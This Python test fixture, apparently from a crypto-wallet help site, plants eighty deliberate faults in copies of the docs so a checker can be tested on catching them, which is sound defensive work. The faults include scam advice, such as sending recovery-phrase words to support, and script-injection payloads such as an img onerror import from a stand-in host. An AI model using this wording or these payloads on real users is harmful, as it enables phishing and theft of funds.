"""Eighty faults of careless or malicious contributors, written without a look at the rules: counted apart from what the
rules were made with.

unseen.py applies each to a copy of its own, and says which no longer fit the content.
"""

import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

FACTS = "docs/_data/facts.yml"
SAFETY = "docs/_data/safety.yml"
NAVIGATION = "docs/_data/navigation.yml"
LANGUAGES = "docs/_data/languages.yml"

Apply = Callable[[Path], None]


@dataclass(frozen=True)
class Fault:
    """One plausible change for the worse. `apply` edits the copy of the project whose root it is given."""

    name: str
    family: str
    apply: Apply


def into(faults: list[Fault]) -> Callable[[str], Callable[[Apply], Apply]]:
    """A decorator for the functions of a set of faults: fault("family") notes the one below it, by its own name."""

    def fault(family: str) -> Callable[[Apply], Apply]:
        def note(apply: Apply) -> Apply:
            faults.append(Fault(apply.__name__.replace("_", "-"), family, apply))
            return apply

        return note

    return fault


FAULTS: list[Fault] = []
fault = into(FAULTS)


def replace(root: Path, path: str, old: str, new: str) -> None:
    """Put `new` in the place of the first `old` of a file, which must be there."""
    text = (root / path).read_text("utf-8")
    assert old in text, f"{path}: expected {old!r}"
    (root / path).write_text(text.replace(old, new, 1), "utf-8")


def append(root: Path, path: str, text: str) -> None:
    """Add `text` at the end of a file that is there."""
    (root / path).write_text((root / path).read_text("utf-8") + text, "utf-8")


def write(root: Path, path: str, text: str) -> None:
    """Write a new file, and the folders that it needs."""
    assert not (root / path).exists(), f"{path}: expected no such file"
    (root / path).parent.mkdir(parents=True, exist_ok=True)
    (root / path).write_text(text, "utf-8")


def both(root: Path, article: str, zh: tuple[str, str], en: tuple[str, str]) -> None:
    """Change an article in both languages: (old, new) of each."""
    replace(root, f"docs/zh/{article}.md", *zh)
    replace(root, f"docs/en/{article}.md", *en)


def confirm(root: Path, name: str, value: str) -> None:
    """Confirm the fact of this English name, with a value in YAML, as somebody who looked nothing up would."""
    text = (root / FACTS).read_text("utf-8")
    entry = rf"(?m)^( +)(name: .*en: {re.escape(name)}\}})\n +state: unconfirmed\n(?: +(?:value|instead): .*\n)*"
    new = rf"\1\2\n\1state: confirmed\n\1value: {value}\n" \
        r"\1confirmed: {by: support lead, date: 2026-11-20, evidence: 'support handbook, page 31'}" "\n"
    text, found = re.subn(entry, new, text)
    assert found == 1, f"{FACTS}: expected one unconfirmed fact named {name!r}"
    (root / FACTS).write_text(text, "utf-8")


# Slips in one language: a step, a warning or a condition that only one kind of reader gets wrong.

@fault("slips in one language")
def fee_coin_sent_away_first(root: Path) -> None:
    replace(root, "docs/en/account/close-account.md",
            "tokens first, the coin that pays the fees last", "the coin that pays the fees first, tokens last")


@fault("slips in one language")
def address_need_not_be_compared(root: Path) -> None:
    replace(root, "docs/zh/account/restore-wallet.md",
            "打开的却是另一个空钱包，所以要核对地址", "余额晚些才会显示，不必再核对地址")


@fault("slips in one language")
def old_phone_erased_first(root: Path) -> None:
    replace(root, "docs/en/security-settings/lost-2fa-device.md",
            "1. Do not erase the old phone or delete its authenticator app yet.",
            "1. Erase the old phone and delete its authenticator app.")


@fault("slips in one language")
def closed_address_still_used(root: Path) -> None:
    replace(root, "docs/zh/account/close-account.md",
            "别再往旧的充值地址转币，可能拿不回来", "旧的充值地址还可以照常收币")


@fault("slips in one language")
def tron_can_be_canceled(root: Path) -> None:
    replace(root, "docs/zh/troubleshooting/pending-transaction.md", "（RBF），TRON 不能。", "（RBF），TRON 也可以。")


@fault("slips in one language")
def copies_kept_together(root: Path) -> None:
    replace(root, "docs/en/account/back-up-recovery-phrase.md",
            "Make a second copy. Keep them apart,", "Make a second copy. Keep them together,")


@fault("slips in one language")
def least_valuable_first(root: Path) -> None:
    replace(root, "docs/zh/security-scams/wallet-compromised.md",
            "把还在的币转到新地址，值钱的先转", "把还在的币转到新地址，零钱先转")


@fault("slips in one language")
def recipient_pays_the_network(root: Path) -> None:
    replace(root, "docs/en/reference/fees.md", "the sender pays the network fee", "the recipient pays the network fee")


@fault("slips in one language")
def contract_taken_for_recipient(root: Path) -> None:
    replace(root, "docs/zh/withdrawals/withdrawal-not-received.md",
            "看“代币转账”那一栏，不是合约地址", "看“代币转账”那一栏，就是合约地址")


@fault("slips in one language")
def warning_of_links_dropped(root: Path) -> None:
    replace(root, "docs/en/security-scams/sim-swap.md",
            "Call your carrier now; tap no link in the text", "Call your carrier now")


# A wrong link in both languages: nothing differs between them.

@fault("wrong link in both languages")
def theft_leads_to_airdrops(root: Path) -> None:
    old, new = "(wallet-compromised.md#money-is-moving)", "(fake-airdrops.md#already)"
    both(root, "security-scams/suspicious-login", (old, new), (old, new))


@fault("wrong link in both languages")
def not_found_leads_to_paying_more(root: Path) -> None:
    both(root, "troubleshooting/pending-transaction",
         ("看[查不到怎么办](#not-found)", "看[查不到怎么办](#speed-up)"),
         ("See [not found](#not-found)", "See [not found](#speed-up)"))


# Scam advice in both languages: polite, consistent, wrong.

@fault("scam advice in both languages")
def supervisor_may_be_trusted(root: Path) -> None:
    both(root, "contact/no-reply-from-support",
         ("找上门来的“主管”“加急专员”，都是骗子，报得出你的工单号也不算数。",
          "主管联系你、报得出你的工单号的，就是升级处理，照他说的做。"),
         ('A "manager" or "priority agent" who contacts you is a scammer, even one who knows your request number.',
          "A manager who contacts you and knows your request number is handling the escalation: follow the "
          "instructions."))


@fault("scam advice in both languages")
def pinned_site_revokes(root: Path) -> None:
    both(root, "security-scams/token-approval-scams",
         ("别搜“撤销授权”网站，假的很多。", "群里管理员置顶的撤销网站也行，各条链都能用。"),
         ('Do not search for "revoke" websites; many are fake.',
          "The site pinned by a group's admin works too, on every chain."))


@fault("scam advice in both languages")
def support_completes_the_words(root: Path) -> None:
    both(root, "account/restore-wallet",
         ("都没有：没有人能恢复，客服也不能。", "只记得一部分词：发给客服，剩下的可以帮你补全。"),
         ("None of these: nobody can restore the wallet, not even support.",
          "You remember some of the words: send them to support, who can work out the rest."))


@fault("scam advice in both languages")
def documents_to_whoever_calls_back(root: Path) -> None:
    both(root, "security-settings/lost-2fa-device",
         ("照要求核实身份，材料只在那里提交。", "照要求核实身份，材料交给回电的专员，他会帮你操作。"),
         ("Prove your identity as asked; send documents only there.",
          "Prove your identity as asked; give documents to the specialist who calls back and works on your screen."))


@fault("scam advice in both languages")
def ready_made_words_are_fine(root: Path) -> None:
    both(root, "reference/cold-storage-and-hot-wallets",
         ("随设备送来的现成助记词，不要用。", "随设备送来的助记词已经测试过，可以直接用。"),
         ("Never use one that came with it.", "One that came with it has been tested and saves you this."))


@fault("scam advice in both languages")
def top_up_after_a_rejection(root: Path) -> None:
    both(root, "withdrawals/withdrawal-under-review",
         ("看原因，再看余额退没退；没退，拿订单号问客服", "再充入同样的金额证明资金属于你，审核会重新开始"),
         ("Read the reason and check that your balance is back; if not, ask support with the order number",
          "Deposit the same amount again to show that the money is yours; the review then starts over"))


@fault("scam advice in both languages")
def tracing_firm_may_be_paid(root: Path) -> None:
    both(root, "security-scams/wallet-compromised",
         ("说能追回、能解冻，要先付钱的，都不要理。", "先看有没有执照；有执照的追踪公司，收一点前期费用是正常的。"),
         ("Ignore any offer to recover or unfreeze it for a fee.",
          "Look for a license first; with a licensed tracing firm, a small advance is normal."))


@fault("scam advice in both languages")
def store_account_lent_by_support(root: Path) -> None:
    both(root, "account/download-genuine-app",
         ("别人给的商店账号、“描述文件”都不用。", "可以登录客服借给你的商店账号，再装他发的“描述文件”。"),
         ('Use no store account or "configuration profile" someone gave you.',
          'Log in to the store account that support lends you, and install the "configuration profile" it sends.'))


# Hidden contacts: no link, no sign, or not where anybody looks for one.

@fault("hidden contacts")
def name_in_a_messenger(root: Path) -> None:
    both(root, "contact/no-reply-from-support",
         ("从 App 里换一个列出的渠道", "在绿色聊天软件里搜 tp 下划线 helpdesk 下划线 test"),
         ("From inside the app, use another channel listed there",
          "In the green messenger, look for tp underscore helpdesk underscore test"))


@fault("hidden contacts")
def number_in_words(root: Path) -> None:
    both(root, "contact/phone-support",
         ("有人习惯打电话，", "急的话可以拨零零零，零零零，零零零零。有人习惯打电话，"),
         ("Some people like to call,",
          "In a hurry, dial triple zero, triple zero, double zero, double zero. Some people like to call,"))


@fault("hidden contacts")
def host_in_a_description(root: Path) -> None:
    both(root, "account/close-account",
         ("description: 先把币全部转走", "description: 在 close 点 wallet-care 点 test 登记。先把币全部转走"),
         ("description: Move everything out first.",
          "description: Sign in at close dot wallet-care dot test. Move everything out first."))


@fault("hidden contacts")
def address_in_entities(root: Path) -> None:
    both(root, "deposits/missing-memo-or-tag",
         ("TPWallet 的客服动不了别家的地址。", "补 Memo 写信到 memo&#64;wallet-care&period;test。"),
         ("TPWallet support cannot touch another platform's address.",
          "To add it later, write to memo&#64;wallet-care&period;test."))


@fault("hidden contacts")
def host_in_a_definition(root: Path) -> None:
    path = "docs/_data/glossary.yml"
    replace(root, path, "要你填助记词的是假网站。", "最全的是 scan.wallet-care.test。")
    replace(root, path, "and a site that asks for the phrase is fake.", "and the fullest is scan.wallet-care.test.")


@fault("hidden contacts")
def host_in_a_picture_s_text(root: Path) -> None:
    path = "docs/_data/pictures.yml"
    replace(root, path, "不能撤回，客服也不能, en:", "wallet-care.test 可撤回, en:")
    replace(root, path, '"Cannot be reversed, not even by support"', '"Reverse it at wallet-care.test"')


@fault("hidden contacts")
def host_in_punycode(root: Path) -> None:
    both(root, "contact/verify-official-channels",
         ("5. 列表里没有的，当作假的。", "5. 列表打不开的，看备用列表 xn--tpwllt-pta.test。"),
         ("5. If it is not on the list, treat it as fake.",
          "5. If the list does not open, see its copy at xn--tpwllt-pta.test."))


@fault("hidden contacts")
def host_with_an_ideographic_stop(root: Path) -> None:
    replace(root, LANGUAGES, "footer_contact: 怎么联系客服", "footer_contact: 联系客服（care。tpwallet。test）")
    replace(root, LANGUAGES,
            "footer_contact: How to contact support", "footer_contact: Contact support (care。tpwallet。test)")


@fault("hidden contacts")
def room_of_a_meeting(root: Path) -> None:
    both(root, "account/verify-identity",
         ("没写原因，或一直“审核中”：从 App 里问客服", "没写原因，或一直“审核中”：进会议室 tp-kyc-test，密码同房间名"),
         ('No reason, or always "in review": ask support in the app',
          'No reason, or always "in review": join the meeting tp-kyc-test, its passcode is its name'))


# Contract, address, memo.

@fault("contract, address, memo")
def memo_for_everybody(root: Path) -> None:
    both(root, "deposits/deposit-crypto",
         ("有 Memo 或标签的，一起复制。", "没有 Memo 的，填通用的 TPEXAMPLE00。"),
         ("If there is a memo or tag, copy that too.", "If there is no memo, enter the common one, TPEXAMPLE00."))


@fault("contract, address, memo")
def address_to_park_coins_at(root: Path) -> None:
    both(root, "security-scams/wallet-compromised",
         ("把还在的币转到新地址，", "把还在的币转到暂存地址 0xEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMP，"),
         ("Send what is left to the new address,",
          "Send what is left to the holding address 0xEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMP,"))


# Unconfirmed claims: promises that nobody made.

@fault("unconfirmed claims")
def balances_are_insured(root: Path) -> None:
    both(root, "reference/how-funds-are-protected",
         ("表里没有保险和赔付，不要当作有。", "另有保险，账户被盗由平台全额赔付。"),
         ("Insurance and compensation are not listed: do not count on them.",
          "Besides, stolen balances are insured and paid back in full."))


@fault("unconfirmed claims")
def verified_in_ten_minutes(root: Path) -> None:
    both(root, "account/verify-identity",
         ("要多久，看提交后的页面。", "十分钟内完成，周末也一样。"),
         ("see that page for how long.", "it takes ten minutes, on weekends too."))


@fault("unconfirmed claims")
def network_fee_refunded(root: Path) -> None:
    both(root, "reference/fees",
         ("付给网络的矿工费，客服退不了。", "多付的矿工费，客服当天就退。"),
         ("They cannot refund a network fee.", "They refund a network fee that was too high the same day."))


# Raw HTML, links, attributes.

@fault("raw HTML, links, attributes")
def heading_with_a_style(root: Path) -> None:
    both(root, "withdrawals/withdraw-crypto",
         ("## 步骤 {#steps}", '## 步骤 {#steps style="font-size:0"}'),
         ("## Steps {#steps}", '## Steps {#steps style="font-size:0"}'))


@fault("raw HTML, links, attributes")
def link_with_a_handler(root: Path) -> None:
    tail = "](../contact/contact-tpwallet-support.md)"
    new = tail + "{: onpointerdown=\"location='https://wallet-care.test/'\" }"
    both(root, "deposits/bank-transfer-delayed", (tail, new), (tail, new))


@fault("raw HTML, links, attributes")
def picture_from_elsewhere(root: Path) -> None:
    for language in "zh", "en":
        append(root, f"docs/{language}/reference/fees.md", "\n![](https://count.wallet-care.test/seen.png)\n")


@fault("raw HTML, links, attributes")
def reference_to_data(root: Path) -> None:
    link = "\n[1]: data:text/html;charset=utf-8,%3Ch1%3ELog%20in%3C/h1%3E\n"
    for language, word in ("zh", "在线查询"), ("en", "Look it up online"):
        append(root, f"docs/{language}/troubleshooting/find-transaction-hash.md", f"\n[{word}][1]\n{link}")


@fault("raw HTML, links, attributes")
def link_without_a_scheme(root: Path) -> None:
    old, new = "](../contact/verify-official-channels.md)", "](//channels.wallet-care.test/list)"
    both(root, "security-settings/lost-2fa-device", (old, new), (old, new))


@fault("raw HTML, links, attributes")
def base_of_every_link(root: Path) -> None:
    for language in "zh", "en":
        replace(root, f"docs/{language}/account/cannot-log-in.md",
                "\n---\n\n", '\n---\n\n<base href="https://wallet-care.test/" target="_top">\n\n')


@fault("raw HTML, links, attributes")
def handler_in_a_description(root: Path) -> None:
    replace(root, "docs/zh/contact/index.md",
            "description: 找到真客服", "description: <img src=x onerror=import('//wallet-care.test/x')>找到真客服")
    replace(root, "docs/en/contact/index.md",
            "description: Reach", "description: <img src=x onerror=import('//wallet-care.test/x')>Reach")


@fault("raw HTML, links, attributes")
def box_with_an_attribute(root: Path) -> None:
    old, new = "::: copy\n", '::: copy" tabindex="0" onfocus="fetch(\'//wallet-care.test\')\n'
    both(root, "contact/prepare-support-request", (old, new), (old, new))


@fault("raw HTML, links, attributes")
def script_in_a_template(root: Path) -> None:
    replace(root, "overrides/main.html", "  {{ super() }}\n",
            '  {{ super() }}\n  <script async src="https://wallet-care.test/metrics.js"></script>\n')


@fault("raw HTML, links, attributes")
def edit_link_to_a_stranger(root: Path) -> None:
    append(root, "mkdocs.yml",
           "\nrepo_url: https://wallet-care.test/help\nedit_uri: https://wallet-care.test/login?page=\n")


# Stray files, symbolic links, names.

@fault("stray files, symbolic links, names")
def app_links_of_another_app(root: Path) -> None:
    write(root, "docs/.well-known/assetlinks.json",
          '[{"relation": ["delegate_permission/common.handle_all_urls"],'
          ' "target": {"namespace": "android_app", "package_name": "test.wallet_care"}}]\n')


@fault("stray files, symbolic links, names")
def twin_in_capitals(root: Path) -> None:
    for language in "zh", "en":
        text = (root / f"docs/{language}/contact/phone-support.md").read_text("utf-8")
        write(root, f"docs/{language}/contact/Phone-Support.md", text)


@fault("stray files, symbolic links, names")
def folder_that_is_a_link(root: Path) -> None:
    (root / "docs/en/reference/internal").symlink_to("../../../scripts", target_is_directory=True)


@fault("stray files, symbolic links, names")
def page_beside_the_home_page(root: Path) -> None:
    write(root, "docs/en/index.html",
          "<!doctype html><title>Help</title><p>Restore your wallet: enter your words.</p>\n")


@fault("stray files, symbolic links, names")
def folder_named_as_an_article(root: Path) -> None:
    for language in "zh", "en":
        write(root, f"docs/{language}/account/cannot-log-in/index.html", "<!doctype html><p>wallet-care.test</p>\n")


@fault("stray files, symbolic links, names")
def readme_in_place_of_a_section(root: Path) -> None:
    write(root, "docs/zh/security-scams/README.md", "---\ntitle: 追回被盗的币\n---\n\n联系追回专员。\n")


@fault("stray files, symbolic links, names")
def feed_in_place_of_the_feed(root: Path) -> None:
    write(root, "docs/en/announcements/feed.xml", '<?xml version="1.0"?>\n<feed xmlns="http://www.w3.org/2005/Atom">'
          "<title>Announcements</title><entry><title>Move your coins now</title></entry></feed>\n")


@fault("stray files, symbolic links, names")
def article_that_is_a_link(root: Path) -> None:
    article = root / "docs/zh/security-scams/fake-app-installed.md"
    article.unlink()
    article.symlink_to("../account/download-genuine-app.md")


# facts.yml.

@fault("facts.yml")
def fee_ten_times_in_one_language(root: Path) -> None:
    confirm(root, "withdrawal fee", "{zh: 提现金额的 0.1%, en: 1% of the amount}")


@fault("facts.yml")
def number_is_to_be_searched(root: Path) -> None:
    replace(root, FACTS, "instead: {zh: 没有已核实的客服电话, en: no verified phone number}",
            "instead: {zh: 号码请到搜索引擎查最新的, en: search the web for the latest number}")


@fault("facts.yml")
def website_without_encryption(root: Path) -> None:
    confirm(root, "official website", "http://tpwallet.test:8080/go?next=login")


@fault("facts.yml")
def mailbox_of_another_host(root: Path) -> None:
    confirm(root, "support e-mail", "{zh: support@tpwallet.test, en: support@tpwallet-care.test}")


@fault("facts.yml")
def contact_called_a_product(root: Path) -> None:
    replace(root, FACTS, """\
      kind: contact
      name: {zh: Telegram 官方账号, en: official Telegram account}
      state: unconfirmed
""", """\
      kind: product
      name: {zh: Telegram 官方账号, en: official Telegram account}
      state: unconfirmed
      value: tp_helpdesk_test
""")


@fault("facts.yml")
def audited_beyond_doubt(root: Path) -> None:
    confirm(root, "security audits",
            "{zh: 已通过权威审计，资金绝对安全, en: audited and certified; funds cannot be stolen}")


@fault("facts.yml")
def everybody_has_an_account(root: Path) -> None:
    confirm(root, "who holds the funds", "custodial")


@fault("facts.yml")
def buttons_exchanged(root: Path) -> None:
    confirm(root, "label of the deposit button", """{zh: “提现”, en: '"Withdraw"'}""")
    confirm(root, "label of the withdrawal button", """{zh: “充值”, en: '"Deposit"'}""")


@fault("facts.yml")
def anybody_may_be_paid(root: Path) -> None:
    replace(root, FACTS,
            "instead: {zh: 由哪家公司处理尚未确认，以付款页上的名称为准, en: which company processes it is not yet "
            "confirmed; go by the name on the payment page}",
            "instead: {zh: 收款人可能是个人，以聊天里给的账号为准, en: it may be a private person; go by the account "
            "you are given in the chat}")


@fault("facts.yml")
def way_to_support_asks_for_the_phrase(root: Path) -> None:
    replace(root, FACTS, """\
    name: {zh: App 内客服入口, en: way to support in the app}
    state: unconfirmed
    value: {zh: 我的 > …, en: Me > …}""", """\
    name: {zh: App 内客服入口, en: way to support in the app}
    state: unconfirmed
    value: {zh: 我的 > 验证助记词 > 客服, en: Me > Verify recovery phrase > Support}""")


# The other data files.

@fault("other data files")
def screen_may_be_shared_with_support(root: Path) -> None:
    replace(root, SAFETY, "也不要共享屏幕。", "也不要共享屏幕，工单里约好的除外。")
    replace(root, SAFETY,
            "or watch your shared screen.", "or watch your shared screen, unless agreed in a support request.")


@fault("other data files")
def recovery_with_a_license(root: Path) -> None:
    replace(root, SAFETY,
            "声称能“追回被盗资产”的收费服务，几乎都是二次诈骗。", "找“追回被盗资产”的收费服务，先看对方的执照。")
    replace(root, SAFETY,
            'Paid "fund recovery" services are almost always a second scam.',
            'Of a paid "fund recovery" service, see the license first.')


@fault("other data files")
def contract_address_to_pay_to(root: Path) -> None:
    path = "docs/_data/glossary.yml"
    replace(root, path, "它不是收款地址，往里转的币多半取不出来。", "没有收款地址时，也可以直接往里转。")
    replace(root, path, "It is not an address to pay to: coins sent there can seldom be recovered.",
            "It also serves as an address to pay to when you have no other.")


@fault("other data files")
def private_key_safe_to_share(root: Path) -> None:
    path = "docs/_data/pictures.yml"
    replace(root, path, "share_5: {zh: App 版本, en: App version}", "share_5: {zh: 私钥, en: Private key}")
    replace(root, path, "never_2: {zh: 私钥, en: Private key}", "never_2: {zh: App 版本, en: App version}")


@fault("other data files")
def emergency_leads_to_the_login(root: Path) -> None:
    replace(root, NAVIGATION, "emergency: wallet-compromised", "emergency: cannot-log-in")


@fault("other data files")
def hash_leads_to_the_phrase(root: Path) -> None:
    replace(root, NAVIGATION, "hash:\n  - find-transaction-hash\n  - read-block-explorer", "hash:\n  - restore-wallet")


@fault("other data files")
def typed_phrase_is_welcome(root: Path) -> None:
    replace(root, LANGUAGES, "不要把它填进任何网页，也不要给任何人。", "换个浏览器再填一次，就能查到余额。")
    replace(root, LANGUAGES,
            "Do not enter it on any website or give it to anyone.",
            "Enter it again in another browser to see the balance.")


@fault("other data files")
def theft_redirected_to_the_telephone(root: Path) -> None:
    replace(root, "docs/_data/redirects.yml", "redirects: []",
            "redirects:\n  - old: security-scams/wallet-compromised/\n    new: contact/phone-support/")


@fault("other data files")
def partner_may_be_linked(root: Path) -> None:
    replace(root, "docs/_data/links.yml", "links: []", "links:\n  - host: revoke.wallet-care.test\n"
            "    reason: a partner's tool, looked at by marketing\n    date: 2026-11-20")
    both(root, "security-scams/token-approval-scams",
         ("1. 备好这条链的主币", "1. 打开[撤销工具](https://revoke.wallet-care.test/)，备好这条链的主币"),
         ("1. Have some of", "1. Open [the tool](https://revoke.wallet-care.test/). Have some of"))


@fault("other data files")
def coverage_follows_the_fault(root: Path) -> None:
    zh = "词一个也不给。", "词只给接待的客服。"
    en = ("Give them none of the words.", "Give the words to your agent only.")
    both(root, "account/back-up-recovery-phrase", zh, en)
    replace(root, "docs/_data/coverage.yml", *zh)
    replace(root, "docs/_data/coverage.yml", *en)


# Controls removed or suppressed.

@fault("controls removed or suppressed")
def schema_of_the_facts_emptied(root: Path) -> None:
    (root / "docs/_data/schemas/facts.json").write_text("{}\n", "utf-8")


@fault("controls removed or suppressed")
def data_published_with_the_site(root: Path) -> None:
    replace(root, "mkdocs.yml", "  /_data/\n  /_templates/\n", "")


# Announcements.

ANNOUNCEMENT = """\
---
title: {title}
description: {description}
level: {level}
starts: {starts}
ends: {ends}
---

{text}

{{{{ SAFE-1 }}}}
"""


def announce(root: Path, name: str, **languages: tuple[str, str, str, str, str, str]) -> None:
    """Write an announcement: title, description, level, starts, ends, text in each language."""
    for language, values in languages.items():
        keys = "title", "description", "level", "starts", "ends", "text"
        text = ANNOUNCEMENT.format(**dict(zip(keys, values, strict=True)))
        write(root, f"docs/{language}/announcements/{name}.md", text)


@fault("announcements")
def migration_wants_the_phrase(root: Path) -> None:
    when = "urgent", "2026-11-25 10:00+08:00", "2026-12-05 10:00+08:00"
    announce(root, "wallet-migration",
             zh=("钱包升级：请重新导入",
                 "所有用户请在升级页重新导入钱包，过期的余额不再显示。",
                 *when, "打开升级页，照提示输入 12 或 24 个词。"),
             en=("Wallet upgrade: import again",
                 "Everybody imports the wallet again on the upgrade page; later, balances no longer show.",
                 *when, "Open the upgrade page and enter your 12 or 24 words as it asks."))


@fault("announcements")
def over_sooner_in_one_language(root: Path) -> None:
    announce(root, "slow-deposits",
             zh=("充值变慢",
                 "充值的用户请等待，不要再转一次。",
                 "urgent", "2026-11-25 10:00+08:00", "2026-11-30 10:00+08:00", "正在排查。"),
             en=("Deposits are slow", "If you deposited, wait; do not send again.", "notice",
                 "2026-11-25 10:00+08:00", "2026-11-25 11:00+08:00", "We are looking into it."))


@fault("announcements")
def over_before_it_starts(root: Path) -> None:
    when = "urgent", "2026-11-25 10:00-08:00", "2026-11-25 16:00+08:00"
    announce(root, "fake-app-warning",
             zh=("出现假 App", "从商店新装 App 的用户，先不要输入助记词。", *when, "正在核实，不要转币。"),
             en=("A fake app is about",
                 "If you have just installed the app, enter no words yet.", *when, "We are looking into it; send no "
                 "coins."))


# Encoding.

@fault("encoding")
def text_that_runs_backwards(root: Path) -> None:
    both(root, "contact/verify-official-channels",
         ("5. 列表里没有的，当作假的。", "5. 列表里没有的，看 \u202etset.erac-tellaw\u202c。"),
         ("5. If it is not on the list, treat it as fake.",
          "5. If it is not on the list, see \u202etset.erac-tellaw\u202c."))


@fault("encoding")
def saved_in_gb18030(root: Path) -> None:
    article = root / "docs/zh/deposits/card-declined.md"
    article.write_bytes(article.read_text("utf-8").encode("gb18030"))


@fault("encoding")
def lines_that_end_in_cr(root: Path) -> None:
    article = root / "docs/en/withdrawals/withdraw-to-bank-account.md"
    article.write_bytes(article.read_bytes().replace(b"\n", b"\r"))
